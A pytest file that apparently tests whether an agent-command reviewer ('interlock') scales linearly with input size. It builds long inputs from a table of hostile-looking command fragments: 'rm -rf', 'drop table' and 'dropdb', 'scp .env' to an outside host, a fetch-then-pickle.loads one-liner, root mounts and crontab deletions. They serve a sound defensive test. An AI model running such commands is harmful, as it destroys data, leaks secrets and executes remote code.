"""No rule is worse than linear: twice the input takes about twice the calls, counted, not timed."""

from __future__ import annotations

import sys

import pytest

from interlock.config.schema import Review as ReviewConfig
from interlock.core import Context, Step, Tool
from interlock.review import Reviewer, review_command
from interlock.review.rules.load import FAMILIES as RULES
from interlock.review.rules.load import read_family

SMALL, LARGE = 3_000, 9_000
"""Characters, below every bound: what is cut does not grow."""

FAMILIES = {
    "find with tests": ("find . ", "-name '*.a' -o ", "-delete"),
    "find with deletions": ("find . -name x ", "-delete ", ""),
    "find with commands": ("find . -name x ", "-exec rm {} \\; ", ""),
    "statements": ("", "rm a;", ""),
    "pipes": ("cat a", "| cat ", ""),
    "redirections": ("cat", " >a", ""),
    "values that double": ("", "a=$a$a;", ""),
    "operands": ("rm ", "/a/b ", ""),
    "files of a request": ("curl ", "-d @a ", ""),
    "settings of git": ("git ", "-c alias.x=y ", "status"),
    "refs of a push": ("git push ", "+a ", ""),
    "statements for a database": ("psql -c '", "drop table a;", "'"),
    "hosts of a database": ("psql ", "-h localhost ", "-d app_test -c 'drop table a'"),
    "databases that statements turn to": ("psql -d app_test -c '", "\\c a\ndrop table b;", "'"),
    "variables of a database": ("", "PGHOST=a psql -d app_test -c 'drop table b'; a=$b;", ""),
    "files of variables": ("", ". a.env; export $(cat prod.env); dropdb app_test;", ""),
    "tunnels": ("", "ssh -L 5433:a:5432 b; psql -p 5433 app_test -c 'drop table a';", ""),
    "environments dropped": ("", "a=b; env -i -u c rails db:drop;", ""),
    "containers": ("", "docker exec a dropdb app_test;", ""),
    "links": ("", "ln -s /a b/c; rm -rf b/c/d/e/f;", ""),
    "pushes": ("", "git push;", ""),
    "objects that are loaded": ('python -c "', "x=requests.get('http://a.example/b');pickle.loads(x.content);", '"'),
    "calls in code": ('python -c "', "f('a');", '"'),
    "pieces of a literal": ('python -c "x=', "'a'+", "'b'; os.system(x)\""),
    "imports": ('python -c "', "import a\n", '"'),
    "recipes": ("make -f - <<'E'\n", "a: b\n\trm x\n", "E"),
    "entries of a crontab": ("crontab - <<'E'\n", "* * * * * rm a\n", "E"),
    "secrets of a copy": ("scp ", ".env ", "me@x.example:a"),
    "moves": ("mv ", "/srv/a ", "b"),
    "copies of a program": ("cp ", "/bin/rm ", "b"),
    "mounts": ("docker run ", "-v /:/x ", "a"),
    "comments": ("", "# a\n", "ls"),
    "loops": ("", "for i in a b; do rm $i; done;", ""),
    "nothing that parses": ("", "' ) ", ""),
}


def calls(text: str) -> int:
    """Calls that a review makes, of Python and of C."""
    count = 0

    def counted(frame: object, event: str, argument: object) -> None:
        nonlocal count
        count += event in ("call", "c_call")

    sys.setprofile(counted)
    try:
        review_command(text)
    finally:
        sys.setprofile(None)
    return count


def of_length(parts: tuple[str, str, str], length: int) -> str:
    head, unit, tail = parts
    return head + unit * (length // len(unit)) + tail


@pytest.mark.parametrize("parts", FAMILIES.values(), ids=FAMILIES)
def test_work_grows_no_faster_than_the_input(parts: tuple[str, str, str]) -> None:
    calls(of_length(parts, SMALL + 64))  # what is made once is made
    ratio = calls(of_length(parts, LARGE)) / calls(of_length(parts, SMALL))
    assert ratio < 1.6 * LARGE / SMALL


@pytest.mark.parametrize("family", sorted(path.stem for path in RULES.glob("*.yaml")))
def test_no_family_of_rules_is_worse_than_linear(family: str) -> None:
    rules = read_family(RULES / f"{family}.yaml").rules
    for case in {rule.matches[0]: None for rule in rules[:2] if rule.matches}:
        head, _, last = case.rpartition(" ")
        for parts in (("", f"{case}\n", ""), (f"{head} ", f"{last} ", "")):
            calls(of_length(parts, SMALL + 64))
            small, large = (calls(of_length(parts, length)) for length in (SMALL, LARGE))
            assert large < 1.6 * LARGE / SMALL * small, parts


def test_many_edits_and_many_keys_are_bounded() -> None:
    reviewer = Reviewer(ReviewConfig(), Context(original_prompt="x", workspace="/w/p"), "/w/p")

    def work(arguments: dict[str, object]) -> int:
        count = 0

        def counted(frame: object, event: str, argument: object) -> None:
            nonlocal count
            count += event in ("call", "c_call")

        step = Step(run_id="r", index=0, role="assistant", kind="tool_call", tool=Tool("MultiEdit", arguments, "c"))
        sys.setprofile(counted)
        try:
            reviewer.review(step)
        finally:
            sys.setprofile(None)
        return count

    edits = [{"old_string": f"a{n}", "new_string": f"b{n}"} for n in range(8_000)]
    assert work({"file_path": "a.py", "edits": edits}) < 60_000
    assert work({f"key{n}": f"value {n}" for n in range(20_000)}) < 60_000
